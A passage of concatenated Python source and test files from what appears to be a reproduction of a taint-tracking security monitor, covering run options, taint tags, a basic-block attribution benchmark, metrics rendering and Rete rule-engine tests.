    # streamed for earlier tasks — the test asserts the crash costs
    # exactly one task, which needs those puts actually on the wire.
    time.sleep(0.25)
    os._exit(CRASH_EXIT_CODE)


def _nap(hth) -> None:
    time.sleep(SLEEP_SECONDS)


def crasher_workloads():
    """Rows 'ok-before' / 'worker-killer' / 'ok-after': the middle one
    takes its whole worker process down mid-task."""
    return [
        Workload(
            name="ok-before", program_path="/bin/ok1", source=_BENIGN_SRC,
            description="plain benign row sharded before the crash",
        ),
        Workload(
            name="worker-killer", program_path="/bin/crash",
            source=_BENIGN_SRC, setup=_die,
            description="os._exit mid-task: no sentinel, no record",
        ),
        Workload(
            name="ok-after", program_path="/bin/ok2", source=_BENIGN_SRC,
            description="plain benign row sharded after the crash",
        ),
    ]


def sleepy_workloads(count: int = 6):
    """``count`` benign rows that each stall SLEEP_SECONDS in setup —
    long enough for a drain signal to land mid-sweep."""
    return [
        Workload(
            name=f"sleepy-{i}", program_path=f"/bin/sleepy{i}",
            source=_BENIGN_SRC, setup=_nap,
            description="stalls in setup, then runs instantly",
        )
        for i in range(count)
    ]
