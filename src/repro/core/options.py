"""RunOptions: the single run-configuration object for the whole stack.

Every layer that executes a guest — :class:`repro.core.hth.HTH`, a
:class:`repro.programs.base.Workload`, the CLI, and the fleet engine —
historically grew its own ad-hoc keyword arguments (``block_cache=``,
``taint_fastpath=``, telemetry hubs, fault injectors, tick budgets).
:class:`RunOptions` replaces that sprawl with one frozen, picklable
value object:

* it travels unchanged from a CLI invocation through
  :class:`repro.api.Session` into ``HTH`` — and, because it pickles,
  across process boundaries into fleet workers;
* it is *configuration only*: stateful collaborators (an already-built
  :class:`~repro.telemetry.Telemetry` hub, a shared
  :class:`~repro.core.engine.EngineCache`) stay separate arguments, and
  the factories here (:meth:`RunOptions.make_telemetry`,
  :meth:`RunOptions.make_fault_injector`) build *fresh* per-run state so
  two runs with the same options are independent and deterministic.

The old boolean kwargs (``block_cache=`` / ``taint_fastpath=``) are
gone: :func:`fold_legacy_flags` now *rejects* them with a
:class:`TypeError` naming the replacement (covered by
``tests/core/test_options.py``).
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Optional, TYPE_CHECKING

from repro.harrier.config import HarrierConfig
from repro.secpert.policy import PolicyConfig

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.faultinject.injector import FaultInjector
    from repro.faultinject.plan import FaultProfile
    from repro.telemetry import Telemetry

#: Sentinel distinguishing "caller never passed the kwarg" from an
#: explicit None/False — the deprecation shims need the difference.
UNSET = object()

#: Default virtual-time budget for one run (matches the historical
#: ``HTH.run(max_ticks=...)`` default).
DEFAULT_MAX_TICKS = 5_000_000


@dataclass(frozen=True)
class RunOptions:
    """Everything that configures one monitored run.

    Frozen and picklable: fleet workers receive the coordinator's
    options verbatim, so a sharded run is configured bit-for-bit like
    its serial twin.
    """

    #: Security policy; ``None`` means the default :class:`PolicyConfig`.
    policy: Optional[PolicyConfig] = None
    #: Monitor configuration; ``None`` means the default
    #: :class:`HarrierConfig` (or the workload's own override).
    harrier_config: Optional[HarrierConfig] = None
    #: Execute through the block translation cache (PIN's code cache).
    block_cache: bool = True
    #: Use the zero-taint dataflow fast path.
    taint_fastpath: bool = True
    #: Record per-warning taint-provenance evidence trails.
    provenance: bool = True
    #: Match Secpert rules through the incremental Rete network.
    #: ``False`` falls back to the naive full-rejoin matcher — the
    #: differential oracle behind the ``--no-rete`` CLI flag; both
    #: produce bit-identical warnings and fire traces.
    rete: bool = True
    #: Collect a metrics registry for the run.
    metrics: bool = False
    #: Collect a span trace (implies a metrics registry).
    trace: bool = False
    #: Collect the live §8/§9 stage profile (implies a registry).
    profile: bool = False
    #: Deterministic chaos: a fault profile plus its schedule seed.  A
    #: fresh :class:`FaultInjector` is built per run, so retries and
    #: replays see the exact same schedule.
    fault_profile: Optional["FaultProfile"] = None
    fault_seed: int = 0
    #: Budgets: virtual-time tick limit and the wall-clock watchdog.
    max_ticks: int = DEFAULT_MAX_TICKS
    wall_timeout: Optional[float] = None
    #: Allow the verdict cache to answer (and remember) this run.  This
    #: is an enable switch, not configuration of the run itself, so it is
    #: the one field *excluded* from the cache-key fingerprint — and note
    #: it only matters where a cache is actually attached (a Session
    #: built with one, a fleet ``cache_dir``, the serve daemon).
    cache: bool = True

    # -- derived -----------------------------------------------------------
    @property
    def wants_telemetry(self) -> bool:
        return bool(self.metrics or self.trace or self.profile)

    # -- factories (fresh state per run) -----------------------------------
    def make_telemetry(self) -> Optional["Telemetry"]:
        """A fresh enabled hub when any telemetry flag is set, else None."""
        if not self.wants_telemetry:
            return None
        from repro.telemetry import Telemetry

        return Telemetry.enabled(trace=self.trace, profile=self.profile)

    def make_fault_injector(self) -> Optional["FaultInjector"]:
        """A fresh seeded injector when a fault profile is configured."""
        if self.fault_profile is None:
            return None
        from repro.faultinject.injector import FaultInjector

        return FaultInjector(profile=self.fault_profile, seed=self.fault_seed)

    # -- evolution ---------------------------------------------------------
    def replaced(self, **changes: object) -> "RunOptions":
        """A copy with ``changes`` applied (``dataclasses.replace``)."""
        return replace(self, **changes)

    def with_faults(
        self, profile: "FaultProfile", seed: int
    ) -> "RunOptions":
        return replace(self, fault_profile=profile, fault_seed=seed)


def fold_legacy_flags(
    where: str,
    options: Optional[RunOptions],
    *,
    block_cache: object = UNSET,
    taint_fastpath: object = UNSET,
    stacklevel: int = 3,
) -> RunOptions:
    """Reject the removed boolean kwargs; default ``options`` otherwise.

    The historical ``block_cache=`` / ``taint_fastpath=`` keyword
    arguments on ``HTH``, ``Workload.run`` and ``run_monitored`` went
    through a deprecation cycle and are now an error: passing either
    raises :class:`TypeError` naming the ``RunOptions`` replacement.
    The function itself stays as the one place a caller-supplied
    ``options=None`` is defaulted.
    """
    legacy = []
    if block_cache is not UNSET:
        legacy.append("block_cache")
    if taint_fastpath is not UNSET:
        legacy.append("taint_fastpath")
    if legacy:
        names = ", ".join(legacy)
        raise TypeError(
            f"{where}: the {names} keyword argument(s) were removed; "
            f"pass options=RunOptions({names}=...) instead"
        )
    return options if options is not None else RunOptions()
