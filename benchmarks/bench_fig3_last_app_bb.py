"""Figure 3 — BB execution path from the application into a shared
object: the event triggered inside libc is attributed to the "last"
application basic block.

Two application call sites funnel into the same libc execve wrapper; the
monitor must attribute each event to its own app block with its own
frequency — exactly the mechanism Figure 3 illustrates.
"""

from benchmarks.harness import once, render_table, write_result
from repro.core.hth import HTH
from repro.isa import APP_BASE, assemble

SOURCE = """
main:
    mov edi, 0
hot_loop:                   ; executes 5 times, calls execve each time
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    add edi, 1
    cmp edi, 5
    jl hot_loop
cold_site:                  ; executes once
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/missing"
"""


def run_attribution():
    hth = HTH()
    image = assemble("/bin/fig3", SOURCE)
    report = hth.run(image)
    events = [e for e in report.events if e.call_name == "SYS_execve"]
    hot = APP_BASE + image.symbols["hot_loop"]
    cold = APP_BASE + image.symbols["cold_site"]
    return events, hot, cold


def bench_fig3_last_app_bb(benchmark):
    events, hot, cold = once(benchmark, run_attribution)
    rows = [
        (hex(int(e.address, 16)), e.frequency,
         "hot_loop" if int(e.address, 16) == hot else "cold_site")
        for e in events
    ]
    text = render_table(
        "Figure 3: event attribution to the last application basic block",
        ("app BB address", "frequency at event", "site"),
        rows,
    )
    write_result("fig3_last_app_bb.txt", text)
    print("\n" + text)
    hot_events = [e for e in events if int(e.address, 16) == hot]
    cold_events = [e for e in events if int(e.address, 16) == cold]
    assert len(hot_events) == 5
    assert [e.frequency for e in hot_events] == [1, 2, 3, 4, 5]
    assert len(cold_events) == 1
    assert cold_events[0].frequency == 1
