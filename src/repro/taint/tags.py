"""Multi-source taint tags.

The paper (section 5.1) rejects a single "taint bit" in favour of rich
per-location tags.  Every register and memory cell carries a *set* of
:class:`Tag` values, where each tag records a :class:`DataSource` type and
the name of the concrete resource the data came from (a file path, a socket
address, a binary image path, ...).

``TagSet`` is immutable and hash-consed-ish (empty set is a singleton) so it
can be shared freely between shadow-memory cells without aliasing bugs.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import FrozenSet, Iterable, Iterator, Optional, Tuple


class DataSource(enum.Enum):
    """The resource types the policy distinguishes (paper section 5.1)."""

    USER_INPUT = "USER_INPUT"
    FILE = "FILE"
    SOCKET = "SOCKET"
    BINARY = "BINARY"
    HARDWARE = "HARDWARE"
    #: The paper (footnote 4) notes that a prototype needs an UNKNOWN source
    #: for locations no rule has tagged yet.
    UNKNOWN = "UNKNOWN"

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.value


@dataclass(frozen=True)
class Tag:
    """One provenance record: *what kind* of resource and *which one*.

    ``name`` is ``None`` for sources that have no meaningful identifier
    (USER_INPUT from stdin, HARDWARE, UNKNOWN).
    """

    source: DataSource
    name: Optional[str] = None

    def __post_init__(self) -> None:
        if not isinstance(self.source, DataSource):
            raise TypeError(f"source must be a DataSource, got {self.source!r}")

    def renamed(self, name: Optional[str]) -> "Tag":
        """Return a copy of this tag pointing at a different resource name."""
        return Tag(self.source, name)

    def sort_key(self) -> tuple:
        return (self.source.value, self.name or "")

    def __str__(self) -> str:
        if self.name is None:
            return self.source.value
        return f"{self.source.value}({self.name})"


class TagSet:
    """An immutable set of :class:`Tag` values.

    Union is the fundamental operation: the paper's dataflow rule for
    ``add %ebx, %eax`` is that the destination's tag set becomes the union
    of both operand tag sets (section 7.3.1).
    """

    __slots__ = ("_tags", "_hash")

    _EMPTY: "TagSet" = None  # type: ignore[assignment]

    def __init__(self, tags: Iterable[Tag] = ()) -> None:
        frozen = frozenset(tags)
        for tag in frozen:
            if not isinstance(tag, Tag):
                raise TypeError(f"TagSet elements must be Tags, got {tag!r}")
        object.__setattr__(self, "_tags", frozen)
        object.__setattr__(self, "_hash", None)

    # -- constructors ----------------------------------------------------
    @classmethod
    def empty(cls) -> "TagSet":
        """The canonical empty tag set (a singleton)."""
        if cls._EMPTY is None:
            cls._EMPTY = cls(())
        return cls._EMPTY

    @classmethod
    def of(cls, source: DataSource, name: Optional[str] = None) -> "TagSet":
        """A tag set holding exactly one tag."""
        return cls((Tag(source, name),))

    # -- set algebra ------------------------------------------------------
    @property
    def tags(self) -> FrozenSet[Tag]:
        return self._tags

    def union(self, *others: "TagSet") -> "TagSet":
        """Union of this set with any number of others."""
        merged = set(self._tags)
        changed = False
        for other in others:
            if not isinstance(other, TagSet):
                raise TypeError(f"can only union TagSets, got {other!r}")
            if not other._tags <= merged:
                merged.update(other._tags)
                changed = True
        if not changed:
            return self
        return TagSet(merged)

    def with_tag(self, tag: Tag) -> "TagSet":
        if tag in self._tags:
            return self
        return TagSet(self._tags | {tag})

    def without_source(self, source: DataSource) -> "TagSet":
        """Drop every tag of the given source type."""
        kept = [t for t in self._tags if t.source is not source]
        if len(kept) == len(self._tags):
            return self
        return TagSet(kept)

    def restrict(self, *sources: DataSource) -> "TagSet":
        """Keep only tags whose source type is in ``sources``."""
        wanted = set(sources)
        kept = [t for t in self._tags if t.source in wanted]
        if len(kept) == len(self._tags):
            return self
        return TagSet(kept)

    # -- queries ----------------------------------------------------------
    def has_source(self, source: DataSource) -> bool:
        return any(t.source is source for t in self._tags)

    def names_for(self, source: DataSource) -> Tuple[str, ...]:
        """All resource names recorded for a given source type, sorted."""
        return tuple(
            sorted(t.name for t in self._tags if t.source is source and t.name)
        )

    def sources(self) -> FrozenSet[DataSource]:
        return frozenset(t.source for t in self._tags)

    def is_empty(self) -> bool:
        return not self._tags

    def is_only(self, source: DataSource) -> bool:
        """True when the set is non-empty and every tag has this source."""
        return bool(self._tags) and all(t.source is source for t in self._tags)

    # -- dunder -----------------------------------------------------------
    def __iter__(self) -> Iterator[Tag]:
        return iter(sorted(self._tags, key=Tag.sort_key))

    def __len__(self) -> int:
        return len(self._tags)

    def __contains__(self, tag: Tag) -> bool:
        return tag in self._tags

    def __bool__(self) -> bool:
        return bool(self._tags)

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, TagSet):
            return NotImplemented
        return self._tags == other._tags

    def __hash__(self) -> int:
        # Cached: sets appear in memo keys that are hashed constantly.
        h = self._hash
        if h is None:
            h = hash(self._tags)
            object.__setattr__(self, "_hash", h)
        return h

    def __or__(self, other: "TagSet") -> "TagSet":
        return self.union(other)

    def __repr__(self) -> str:
        inner = ", ".join(str(t) for t in sorted(self._tags, key=Tag.sort_key))
        return f"TagSet({{{inner}}})"


#: Convenience constant used throughout the shadow state.
EMPTY = TagSet.empty()


class TagSetInterner:
    """Hash-consing table + identity-keyed union memo for TagSets.

    The batched dataflow path performs the same unions over and over
    (every iteration of a guest loop replays the same block's
    templates over largely unchanged shadow state).  Interning makes
    equal TagSets *identical* objects, and the union memo keyed by
    ``(id(a), id(b))`` then turns repeated unions into one dict probe —
    no frozenset allocation, no subset test.

    The memo value stores ``(a, b, result)`` with strong references and
    verifies both operands by identity before trusting a hit, so a
    recycled ``id()`` can never alias a dead key to a wrong result.  The
    memo is bounded: at ``max_memo`` entries it is cleared wholesale
    (the steady-state working set re-fills in a few blocks).
    """

    __slots__ = ("_table", "_memo", "max_memo")

    def __init__(self, max_memo: int = 8192) -> None:
        self._table: dict = {EMPTY: EMPTY}
        self._memo: dict = {}
        self.max_memo = max_memo

    def intern(self, tagset: TagSet) -> TagSet:
        """The canonical object equal to ``tagset``."""
        canonical = self._table.get(tagset)
        if canonical is None:
            self._table[tagset] = tagset
            canonical = tagset
        return canonical

    def union(self, a: TagSet, b: TagSet) -> TagSet:
        """``a | b``, interned and memoized.

        Equal to ``a.union(b)`` always; additionally, when both operands
        are interned the result is the canonical object for its value.
        """
        if a is b or not b._tags:
            return a
        if not a._tags:
            return self.intern(b)
        memo = self._memo
        key = (id(a), id(b))
        entry = memo.get(key)
        if entry is not None and entry[0] is a and entry[1] is b:
            return entry[2]
        result = self.intern(a.union(b))
        if len(memo) >= self.max_memo:
            memo.clear()
        memo[key] = (a, b, result)
        return result

    def __len__(self) -> int:
        return len(self._table)


def union_all(tagsets: Iterable[TagSet]) -> TagSet:
    """Union an iterable of tag sets (empty iterable -> empty set)."""
    result = TagSet.empty()
    for ts in tagsets:
        result = result.union(ts)
    return result
