"""OpenMetrics text exposition: renderer and minimal validator.

``GET /metrics`` on the serve daemon serves exactly this rendering, so
these tests pin the format a stock Prometheus scraper depends on: TYPE
declarations, the ``_total`` family convention, cumulative ``le=``
buckets, label escaping, and the terminal ``# EOF``.
"""

from repro.telemetry.metrics import (
    MetricsRegistry,
    render_openmetrics,
    validate_openmetrics,
)


def registry_with_everything():
    registry = MetricsRegistry()
    registry.counter("serve_admitted_total", tenant="default").inc(3)
    registry.counter("serve_admitted_total", tenant="other").inc()
    registry.gauge("serve_queue_depth").set(2)
    hist = registry.histogram("serve_latency_seconds", stage="exec")
    for value in (0.0005, 0.0005, 0.02, 5.0):
        hist.observe(value)
    return registry


class TestRender:
    def test_renders_valid_openmetrics(self):
        text = render_openmetrics(registry_with_everything().samples())
        assert validate_openmetrics(text) == []

    def test_counter_family_drops_total_suffix(self):
        text = render_openmetrics(registry_with_everything().samples())
        assert "# TYPE serve_admitted counter" in text
        assert 'serve_admitted_total{tenant="default"} 3' in text
        assert 'serve_admitted_total{tenant="other"} 1' in text

    def test_gauge_sample(self):
        text = render_openmetrics(registry_with_everything().samples())
        assert "# TYPE serve_queue_depth gauge" in text
        assert "serve_queue_depth 2" in text

    def test_histogram_buckets_are_cumulative_with_inf(self):
        text = render_openmetrics(registry_with_everything().samples())
        lines = text.splitlines()
        buckets = [
            line for line in lines
            if line.startswith("serve_latency_seconds_bucket")
        ]
        # cumulative counts never decrease and +Inf equals the count
        values = [int(line.rsplit(" ", 1)[1]) for line in buckets]
        assert values == sorted(values)
        assert buckets[-1].startswith(
            'serve_latency_seconds_bucket{le="+Inf"'
        ) or 'le="+Inf"' in buckets[-1]
        assert values[-1] == 4
        assert "serve_latency_seconds_count" in text
        assert "serve_latency_seconds_sum" in text

    def test_label_values_are_escaped(self):
        registry = MetricsRegistry()
        registry.counter(
            "odd_total", path='a"b\\c\nd'
        ).inc()
        text = render_openmetrics(registry.samples())
        assert validate_openmetrics(text) == []
        assert '\\"b' in text and "\\\\c" in text and "\\n" in text

    def test_empty_registry_is_just_eof(self):
        text = render_openmetrics([])
        assert text == "# EOF\n"
        assert validate_openmetrics(text) == []


class TestValidate:
    def test_missing_eof(self):
        problems = validate_openmetrics("# TYPE a gauge\na 1\n")
        assert any("EOF" in p for p in problems)

    def test_sample_without_type_family(self):
        problems = validate_openmetrics("orphan 1\n# EOF")
        assert any("no TYPE family" in p for p in problems)

    def test_counter_sample_without_total_suffix(self):
        text = "# TYPE hits counter\nhits 1\n# EOF"
        problems = validate_openmetrics(text)
        assert any("lacks _total" in p for p in problems)

    def test_non_cumulative_buckets_flagged(self):
        text = (
            "# TYPE lat histogram\n"
            'lat_bucket{le="0.1"} 5\n'
            'lat_bucket{le="1"} 3\n'
            'lat_bucket{le="+Inf"} 5\n'
            "lat_sum 1\n"
            "lat_count 5\n"
            "# EOF"
        )
        problems = validate_openmetrics(text)
        assert any("non-cumulative" in p for p in problems)

    def test_histogram_without_inf_bucket_flagged(self):
        text = (
            "# TYPE lat histogram\n"
            'lat_bucket{le="0.1"} 5\n'
            "lat_sum 1\n"
            "lat_count 5\n"
            "# EOF"
        )
        problems = validate_openmetrics(text)
        assert any("+Inf" in p for p in problems)

    def test_unparsable_sample_flagged(self):
        problems = validate_openmetrics("# TYPE a gauge\na one\n# EOF")
        assert any("non-numeric" in p for p in problems)
