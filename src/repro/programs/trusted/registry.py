"""Table 7 registry: the eleven trusted programs of the paper's
false-positive study, in the paper's order.

Deprecated import path: resolve rows through the unified
:mod:`repro.programs.registry` instead; this module remains as the
factory the unified registry maps the ``"7"`` key to.
"""

from __future__ import annotations

from typing import List

from repro.programs.base import Workload
from repro.programs.trusted.buildtools import buildtools_workloads
from repro.programs.trusted.coreutils import coreutils_workloads
from repro.programs.trusted.x11 import x11_workloads

_PAPER_ORDER = (
    "ls", "column", "make", "g++", "awk", "pico",
    "tail", "diff", "wc", "bc", "xeyes",
)


def table7_workloads() -> List[Workload]:
    pool = {
        w.name: w
        for w in (
            coreutils_workloads()
            + buildtools_workloads()
            + x11_workloads()
        )
    }
    return [pool[name] for name in _PAPER_ORDER]
