"""Macro benchmarks (paper section 8.4)."""

from repro.programs.macro.mw_script import mw_workloads
from repro.programs.macro.pwsafe import pwsafe_workloads
from repro.programs.macro.registry import macro_workloads
from repro.programs.macro.tictactoe import tictactoe_workloads

__all__ = [
    "macro_workloads",
    "pwsafe_workloads",
    "mw_workloads",
    "tictactoe_workloads",
]
