"""Rete network tests: incremental alpha/beta matching, negation flips,
maintained agenda, and the lockstep equivalence property against the
naive matcher."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.expert import (
    InferenceEngine,
    Not,
    Pattern,
    Rule,
    Template,
    Test,
    V,
)
from repro.expert.rete import JoinNode, NegNode


def log_action(ctx):
    ctx.context.setdefault("log", []).append(
        (ctx.engine.fire_trace[-1].rule_name,
         tuple(f.fact_id for f in ctx.facts))
    )


def build(rete, rules, templates=("ev", "st", "mark")):
    eng = InferenceEngine(rete=rete)
    eng.define_template(Template.define("ev", "kind", "key", "val"))
    eng.define_template(Template.define("st", "key", "lvl"))
    eng.define_template(Template.define("mark", "key"))
    for rule in rules:
        eng.add_rule(rule)
    return eng


def ev(engine, kind="a", key="k", val=0):
    return engine.assert_fact(
        engine.templates["ev"].make(kind=kind, key=key, val=val)
    )


def state(engine, key="k", lvl=0):
    return engine.assert_fact(
        engine.templates["st"].make(key=key, lvl=lvl)
    )


JOIN_RULE = Rule(
    name="join",
    lhs=[
        Pattern("ev", key=V("k"), val=V("v")),
        Pattern("st", key=V("k"), lvl=V("l")),
        Test(lambda b: b["v"] > b["l"]),
    ],
    action=log_action,
)

NOT_RULE = Rule(
    name="unmarked",
    lhs=[
        Pattern("st", key=V("k")),
        Not(Pattern("mark", key=V("k"))),
    ],
    action=log_action,
)


class TestAlphaLayer:
    def test_facts_routed_by_template_and_constants(self):
        eng = build(True, [
            Rule("a-only", [Pattern("ev", kind="a")], log_action),
            Rule("b-only", [Pattern("ev", kind="b")], log_action),
        ])
        ev(eng, kind="a")
        net = eng._rete
        sizes = {
            (mem.template, mem.literals): len(mem.facts)
            for mem in net._alpha_by_key.values()
        }
        assert sizes[("ev", (("kind", "a"),))] == 1
        assert sizes[("ev", (("kind", "b"),))] == 0

    def test_patterns_with_same_constants_share_a_memory(self):
        eng = build(True, [
            Rule("r1", [Pattern("ev", kind="a", val=V("v"))], log_action),
            Rule("r2", [Pattern("ev", kind="a", key=V("k"))], log_action),
        ])
        assert len(eng._rete._alpha_by_key) == 1
        memory = next(iter(eng._rete._alpha_by_key.values()))
        assert len(memory.successors) == 2

    def test_agenda_appears_without_calling_agenda(self):
        # The point of the maintained agenda: activations exist as a
        # side effect of assert, not of an agenda() rebuild.
        eng = build(True, [JOIN_RULE])
        state(eng, lvl=1)
        ev(eng, val=5)
        assert eng._rete.agenda_size() == 1


class TestIncrementalJoin:
    def test_join_from_either_side(self):
        eng = build(True, [JOIN_RULE])
        f1 = ev(eng, val=5)
        s1 = state(eng, lvl=1)
        assert [a.key() for a in eng.agenda()] == [
            ("join", (f1.fact_id, s1.fact_id))
        ]
        # Right activation of the first pattern after the state exists.
        f2 = ev(eng, val=9)
        assert len(eng.agenda()) == 2
        eng.retract(f1)
        assert [a.key() for a in eng.agenda()] == [
            ("join", (f2.fact_id, s1.fact_id))
        ]

    def test_test_node_filters_on_extension(self):
        eng = build(True, [JOIN_RULE])
        state(eng, lvl=10)
        ev(eng, val=5)  # 5 > 10 fails
        assert eng.agenda() == []

    def test_join_keys_prune_candidates(self):
        eng = build(True, [JOIN_RULE])
        for i in range(10):
            state(eng, key=f"k{i}", lvl=0)
        before = eng.stats.beta_tokens_created
        ev(eng, key="k3", val=1)
        # Only the matching bucket is joined: one ev token + one pair
        # + one test output, not one per state fact.
        assert eng.stats.beta_tokens_created - before == 3

    def test_unhashable_join_values_fall_back_to_scan(self):
        eng = build(True, [JOIN_RULE])
        s = eng.assert_fact(eng.templates["st"].make(key=["k"], lvl=1))
        f = eng.assert_fact(
            eng.templates["ev"].make(kind="a", key=["k"], val=5)
        )
        assert [a.key() for a in eng.agenda()] == [
            ("join", (f.fact_id, s.fact_id))
        ]
        node = next(
            n for m in eng._rete._alpha_by_key.values()
            for n in m.successors
            if isinstance(n, JoinNode) and n.join_slots
        )
        assert node.left_scan and node.right_scan

    def test_rule_added_after_facts_replays_memory(self):
        eng = build(True, [])
        f = ev(eng, val=5)
        s = state(eng, lvl=1)
        eng.add_rule(JOIN_RULE)
        assert [a.key() for a in eng.agenda()] == [
            ("join", (f.fact_id, s.fact_id))
        ]


class TestIncrementalNegation:
    def test_not_flips_on_assert_and_retract(self):
        eng = build(True, [NOT_RULE])
        s = state(eng, key="k")
        assert [a.key() for a in eng.agenda()] == [
            ("unmarked", (s.fact_id,))
        ]
        mark = eng.assert_fact(eng.templates["mark"].make(key="k"))
        assert eng.agenda() == []
        eng.retract(mark)
        assert [a.key() for a in eng.agenda()] == [
            ("unmarked", (s.fact_id,))
        ]

    def test_match_counts_not_booleans(self):
        eng = build(True, [NOT_RULE])
        state(eng, key="k")
        m1 = eng.assert_fact(eng.templates["mark"].make(key="k"))
        m2 = eng.assert_fact(eng.templates["mark"].make(key="k"))
        eng.retract(m1)
        assert eng.agenda() == []  # still blocked by m2
        eng.retract(m2)
        assert len(eng.agenda()) == 1

    def test_refired_derivation_respects_refraction(self):
        eng = build(True, [NOT_RULE])
        state(eng, key="k")
        assert eng.run() == 1
        mark = eng.assert_fact(eng.templates["mark"].make(key="k"))
        eng.retract(mark)
        # The Not re-derives the same (rule, facts) key; refraction
        # must still block it.
        assert eng.run() == 0

    def test_self_template_negation_does_not_double_count(self):
        # The fact feeds the join and the Not of one chain: the
        # deeper-first assert ordering must count it exactly once.
        eng = build(True, [Rule(
            name="lone",
            lhs=[
                Pattern("ev", key=V("k")),
                Not(Pattern("ev", key=V("k"), kind="veto")),
            ],
            action=log_action,
        )])
        f = ev(eng, kind="a", key="k")
        assert len(eng.agenda()) == 1
        veto = ev(eng, kind="veto", key="k")
        # The veto event matches the first pattern too, but vetoes
        # itself; only the original event's activation must die.
        assert eng.agenda() == []
        eng.retract(veto)
        assert [a.key() for a in eng.agenda()] == [("lone", (f.fact_id,))]
        node = next(
            n for m in eng._rete._alpha_by_key.values()
            for n in m.successors if isinstance(n, NegNode)
        )
        assert all(t.neg_count >= 0 for t in node.tokens)


class TestMaintainedAgenda:
    def test_order_matches_naive_on_ties(self):
        rules = [
            Rule("r-low", [Pattern("ev", key=V("k"))], log_action),
            Rule("r-high", [Pattern("ev", val=V("v"))], log_action,
                 salience=5),
            Rule("r-mid", [Pattern("st", key=V("k"))], log_action),
        ]
        naive, rete = build(False, rules), build(True, rules)
        for eng in (naive, rete):
            ev(eng, key="a", val=1)
            ev(eng, key="b", val=2)
            state(eng, key="a")
        assert (
            [a.key() for a in rete.agenda()]
            == [a.key() for a in naive.agenda()]
        )

    def test_quarantined_rule_entries_are_skipped(self):
        def boom(ctx):
            raise RuntimeError("boom")

        rules = [Rule("bad", [Pattern("ev", key=V("k"))], boom)]
        eng = build(True, rules)
        ev(eng, key="a")
        ev(eng, key="b")
        assert eng.run() == 1  # first firing quarantines the rule
        assert "bad" in eng.quarantined
        assert eng.agenda() == []
        assert eng.run() == 0

    def test_clear_facts_rebuilds_the_network(self):
        eng = build(True, [JOIN_RULE])
        state(eng, lvl=0)
        ev(eng, val=5)
        assert eng.run() == 1
        eng.clear_facts()
        assert eng.agenda() == []
        state(eng, lvl=0)
        ev(eng, val=5)
        assert eng.run() == 1  # refraction memory cleared too

    def test_action_retracts_supporting_fact(self):
        # An action that retracts the support of a pending activation:
        # the rete engine must deactivate it before the next pop.
        def consume(ctx):
            log_action(ctx)
            ctx.retract(ctx["f"])

        rules = [
            Rule("consume", [Pattern("ev", kind="c", bind_as="f")],
                 consume, salience=1),
            Rule("observe", [Pattern("ev", kind="c", key=V("k"))],
                 log_action),
        ]
        naive, rete = build(False, rules), build(True, rules)
        for eng in (naive, rete):
            ev(eng, kind="c")
            eng.run()
        assert naive.context["log"] == rete.context["log"]
        assert rete.context["log"] == [("consume", (1,))]


class TestRefractionPruning:
    def test_retract_prunes_fired_keys(self):
        eng = build(True, [NOT_RULE])
        for i in range(50):
            s = state(eng, key=f"k{i}")
            eng.run()
            eng.retract(s)
        # Without pruning this is 50 entries leaked forever.
        assert eng._fired == set()
        assert eng._fired_by_fact == {}

    def test_naive_engine_prunes_too(self):
        eng = build(False, [NOT_RULE])
        s = state(eng, key="k")
        eng.run()
        assert len(eng._fired) == 1
        eng.retract(s)
        assert eng._fired == set()

    def test_live_keys_survive_unrelated_retracts(self):
        eng = build(True, [NOT_RULE])
        s1 = state(eng, key="a")
        s2 = state(eng, key="b")
        eng.run()
        eng.retract(s1)
        assert eng._fired == {("unmarked", (s2.fact_id,))}


class TestMatchStats:
    def test_stats_track_network_shape(self):
        eng = build(True, [JOIN_RULE])
        state(eng, lvl=0)
        ev(eng, val=5)
        stats = eng.match_stats()
        assert stats["engine"] == "rete"
        assert stats["alpha_activations"] >= 2
        assert stats["beta_tokens_live"] > 0
        assert stats["agenda_size"] == 1
        assert stats["match_calls"] == 2
        assert stats["match_seconds"] >= 0

    def test_naive_stats_time_agenda_builds(self):
        eng = build(False, [JOIN_RULE])
        state(eng, lvl=0)
        ev(eng, val=5)
        eng.run()
        stats = eng.match_stats()
        assert stats["engine"] == "naive"
        assert stats["match_calls"] >= 2
        assert stats["facts_asserted"] == 2

    def test_metric_families_exported(self):
        from repro.telemetry.metrics import MetricsRegistry

        eng = build(True, [JOIN_RULE])
        eng.metrics = MetricsRegistry()
        state(eng, lvl=0)
        ev(eng, val=5)
        eng.run()
        names = {s["name"] for s in eng.metrics.samples()}
        assert "secpert_match_seconds" in names
        assert "secpert_alpha_activations_total" in names
        assert "secpert_beta_tokens_live" in names
        assert "secpert_agenda_size" in names


# -- lockstep equivalence ---------------------------------------------------

def lockstep_rules():
    def consume(ctx):
        log_action(ctx)
        ctx.retract(ctx["f"])

    def mark(ctx):
        log_action(ctx)
        ctx.assert_fact(
            ctx.engine.templates["mark"].make(key=ctx["k"])
        )

    return [
        Rule("thresh", [
            Pattern("ev", kind="a", key=V("k"), val=V("v")),
            Test(lambda b: b["v"] > 2),
        ], log_action),
        Rule("join", [
            Pattern("ev", key=V("k"), val=V("v")),
            Pattern("st", key=V("k"), lvl=V("l")),
            Test(lambda b: b["v"] >= b["l"]),
        ], mark, salience=1),
        Rule("unmarked", [
            Pattern("st", key=V("k"), lvl=V("l")),
            Not(Pattern("mark", key=V("k"))),
            Test(lambda b: b["l"] >= 0),
        ], log_action, salience=2),
        Rule("consume", [Pattern("ev", kind="c", bind_as="f")],
             consume, salience=3),
    ]


def normalized_bindings(bindings):
    return {
        name: (f"fact:{value.fact_id}" if hasattr(value, "fact_id")
               else value)
        for name, value in bindings.items()
    }


def observe(engine):
    return {
        "agenda": [
            (a.key(), normalized_bindings(a.bindings))
            for a in engine.agenda()
        ],
        "trace": [
            (f.rule_name, f.fact_ids, normalized_bindings(f.bindings))
            for f in engine.fire_trace
        ],
        "wm": sorted(
            (f.fact_id, f.name, repr(sorted(f.values.items())))
            for f in engine.facts()
        ),
        "fired": engine._fired,
        "log": list(engine.context.get("log", ())),
        "quarantined": dict(engine.quarantined),
    }


OPS = st.lists(
